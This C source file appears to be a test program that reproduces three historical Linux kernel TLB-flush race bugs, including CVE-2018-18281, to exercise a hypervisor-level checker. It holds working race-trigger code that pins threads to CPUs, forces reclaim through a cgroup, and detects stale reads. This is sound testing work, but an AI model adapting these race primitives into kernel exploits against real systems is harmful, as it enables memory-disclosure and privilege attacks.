/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * upstream-bug: uses the window of three old bugs of Linux
 *
 *   upstream-bug mremap PATH    a page is truncated while another thread moves
 *                               its mapping (CVE-2018-18281)
 *   upstream-bug reclaim PATH   a page is unmapped while another thread
 *                               reclaims it (before commit 3ea277194daa)
 *
 *   upstream-bug tables PATH    a page table is freed while the CPU of another
 *                               thread may walk it (before commit d86564a2f085)
 *
 * Three threads, each on a CPU of its own: the victim reads a page all the
 * time, the second opens the window, the third does what must not happen in
 * it; of tables that is what the second has done already. The kernel has to hold the window open (upstream-bugs.patch). PATH is a
 * file to be made, on a disk. Prints the address and what the victim read.
 *
 * Exit status: 0 the attack was made, 1 it could not be made, 2 wrong use.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <exec/tlb-check-guest.h>

#include "../guest/must.h"

#define PAGE		4096ul
/* Of the file. reclaim maps one page: another one would be a reason to flush. */
#define BYTES		(16 * PAGE)
/* What one page table maps. */
#define TABLE		(512 * PAGE)
/* Lower than all else by this much a mapping has a page table of its own. */
#define ALONE		(64 * TABLE)
#define OWN		0x5a5a5a5a5a5a5a5aull
#define IN_WINDOW_US	200000
#define AFTER_US	500000
/* Many times what reclaim takes. */
#define WAIT_US		60000000ull

#define GROUP_ROOT	"/run/upstream-bug"
#define GROUP		GROUP_ROOT "/group"
/* A bit of /proc/PID/pagemap */
#define PRESENT		(1ull << 63)

enum { VICTIM_CPU = 2, SECOND_CPU = 1, THIRD_CPU = 0 };

static char *page;
static size_t bytes;		/* that are mapped there */
static int file;
static atomic_ulong reads, faults, foreign;
static atomic_ullong first_foreign;
static atomic_bool opening, over;
static sigjmp_buf out;

static void pin(int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	MUST(sched_setaffinity(0, sizeof(set), &set));
}

static void on_fault(int number)
{
	(void)number;
	siglongjmp(out, 1);
}

static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC), result = -1;

	if (fd >= 0) {
		result = write(fd, text, strlen(text)) < 0 ? -1 : 0;
		close(fd);
	}
	return result;
}

static void *victim(void *unused)
{
	(void)unused;
	pin(VICTIM_CPU);
	while (!atomic_load(&over)) {
		unsigned long long word;

		if (sigsetjmp(out, 0)) {
			atomic_fetch_add(&faults, 1);
			continue;
		}
		word = *(volatile unsigned long long *)page;
		if (word != OWN && !atomic_fetch_add(&foreign, 1))
			atomic_store(&first_foreign, word);
		atomic_fetch_add(&reads, 1);
	}
	return NULL;
}

static void *move(void *unused)
{
	char *to = mmap(NULL, bytes, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	(void)unused;
	pin(SECOND_CPU);
	atomic_store(&opening, true);
	if (to == MAP_FAILED ||
	    mremap(page, bytes, bytes, MREMAP_MAYMOVE | MREMAP_FIXED, to) != to) {
		perror("mremap");
		exit(1);
	}
	return NULL;
}

/*
 * Reclaim from outside of the process, as kswapd does it: madvise() would count
 * as a flush under way, and who unmaps beside it flushes for safety.
 */
static void *reclaim(void *unused)
{
	(void)unused;
	pin(SECOND_CPU);
	atomic_store(&opening, true);
	/* More than there is: fails in the end, which is all right. */
	put(GROUP "/memory.reclaim", "1M");
	return NULL;
}

static void *unmap_with_table(void *unused)
{
	(void)unused;
	pin(SECOND_CPU);
	/* The kernel knows by this name for whom it has no memory. */
	prctl(PR_SET_NAME, "upstream-tables");
	atomic_store(&opening, true);
	MUST(munmap(page, bytes));
	return NULL;
}

/* A control group of our own: what it reclaims is what we have touched since. */
static void enter_group(void)
{
	MUST(mkdir(GROUP_ROOT, 0700));
	MUST(mount("none", GROUP_ROOT, "cgroup2", 0, NULL));
	MUST(put(GROUP_ROOT "/cgroup.subtree_control", "+memory"));
	MUST(mkdir(GROUP, 0700));
	MUST(put(GROUP "/cgroup.procs", "0"));
}

/* Until reclaim has cleared the entry. Its flush waits in the window. */
static void wait_until_unmapped(void)
{
	int pagemap = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC), tries;
	unsigned long long entry = PRESENT;

	MUST(pagemap);
	for (tries = 0; entry & PRESENT; tries++) {
		if (tries == WAIT_US / 1000) {
			fputs("upstream-bug: the page was not reclaimed\n", stderr);
			exit(1);
		}
		usleep(1000);
		MUST(pread(pagemap, &entry, sizeof(entry),
			   (long)page / PAGE * sizeof(entry)));
	}
	close(pagemap);
}

/* The freed frames are the checker's to see; they get a new owner here. */
static void truncate_it(void)
{
	size_t i, filled = 64 << 20;
	char *other;

	usleep(IN_WINDOW_US);
	MUST(ftruncate(file, 0));
	other = mmap(NULL, filled, PROT_READ | PROT_WRITE,
		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (other == MAP_FAILED)
		exit(1);
	for (i = 0; i < filled; i += PAGE)
		memset(other + i, 0xee, sizeof(long));
}

static void unmap_it(void)
{
	wait_until_unmapped();
	MUST(munmap(page, bytes));
	/* From here on nobody may reach the old page. */
	tlb_check_arm(page, bytes);
}

/*
 * Among other mappings, so that munmap() frees no page table, and flushes for
 * it; or @alone, so that it does.
 */
static char *map_file(bool alone)
{
	char *room = mmap(NULL, 2 * TABLE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *at = (char *)(((unsigned long)room + TABLE) & ~(TABLE - 1)) - TABLE / 2;

	if (room == MAP_FAILED)
		return room;
	if (at < room)
		at += TABLE;
	if (alone) {
		MUST(munmap(room, 2 * TABLE));
		at = (char *)((unsigned long)at & ~(TABLE - 1)) - ALONE;
	}
	return mmap(at, bytes, PROT_READ, MAP_SHARED | MAP_FIXED, file, 0);
}

static void make_file(const char *path)
{
	static unsigned long long words[BYTES / sizeof(unsigned long long)];
	size_t i;

	for (i = 0; i < BYTES / sizeof(words[0]); i++)
		words[i] = OWN;
	file = open(path, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	MUST(file);
	if (write(file, words, BYTES) != (ssize_t)BYTES) {
		perror(path);
		exit(1);
	}
	MUST(fsync(file));
}

struct attack {
	const char *name;
	size_t bytes;			/* that are mapped */
	bool alone;			/* in its page table */
	void *(*open_window)(void *);
	void (*in_window)(void);
};

static const struct attack attacks[] = {
	{ "mremap", BYTES, false, move, truncate_it },
	{ "reclaim", PAGE, false, reclaim, unmap_it },
	{ "tables", PAGE, true, unmap_with_table, NULL },
	{ NULL, 0, false, NULL, NULL }
};

static const struct attack *find_attack(const char *name)
{
	const struct attack *a = attacks;

	while (a->name && strcmp(a->name, name))
		a++;
	return a->name ? a : NULL;
}

int main(int argc, char **argv)
{
	struct sigaction action = { .sa_handler = on_fault, .sa_flags = SA_NODEFER };
	const struct attack *attack = argc == 3 ? find_attack(argv[1]) : NULL;
	pthread_t threads[2];

	if (!attack) {
		fputs("usage: upstream-bug mremap|reclaim|tables PATH\n", stderr);
		return 2;
	}
	if (!tlb_check_present()) {
		fputs("upstream-bug: no checker runs below this system\n", stderr);
		return 1;
	}
	/* New pages wait in lists of a CPU, where only that one can reclaim them. */
	pin(SECOND_CPU);
	if (attack->open_window == reclaim)
		enter_group();
	make_file(argv[2]);
	bytes = attack->bytes;
	page = map_file(attack->alone);
	if (page == MAP_FAILED) {
		perror("mmap");
		return 1;
	}
	printf("address %#lx\n", (unsigned long)page);
	sigaction(SIGSEGV, &action, NULL);
	sigaction(SIGBUS, &action, NULL);
	pin(THIRD_CPU);
	if (pthread_create(&threads[0], NULL, victim, NULL))
		return 1;
	while (!atomic_load(&reads))
		sched_yield();
	if (pthread_create(&threads[1], NULL, attack->open_window, NULL))
		return 1;
	while (!atomic_load(&opening))
		sched_yield();
	if (attack->in_window)
		attack->in_window();
	pthread_join(threads[1], NULL);
	usleep(AFTER_US);
	atomic_store(&over, true);
	pthread_join(threads[0], NULL);
	printf("%lu reads, %lu faults, %lu of something else, first %#llx\n",
	       atomic_load(&reads), atomic_load(&faults), atomic_load(&foreign),
	       atomic_load(&first_foreign));
	return 0;
}
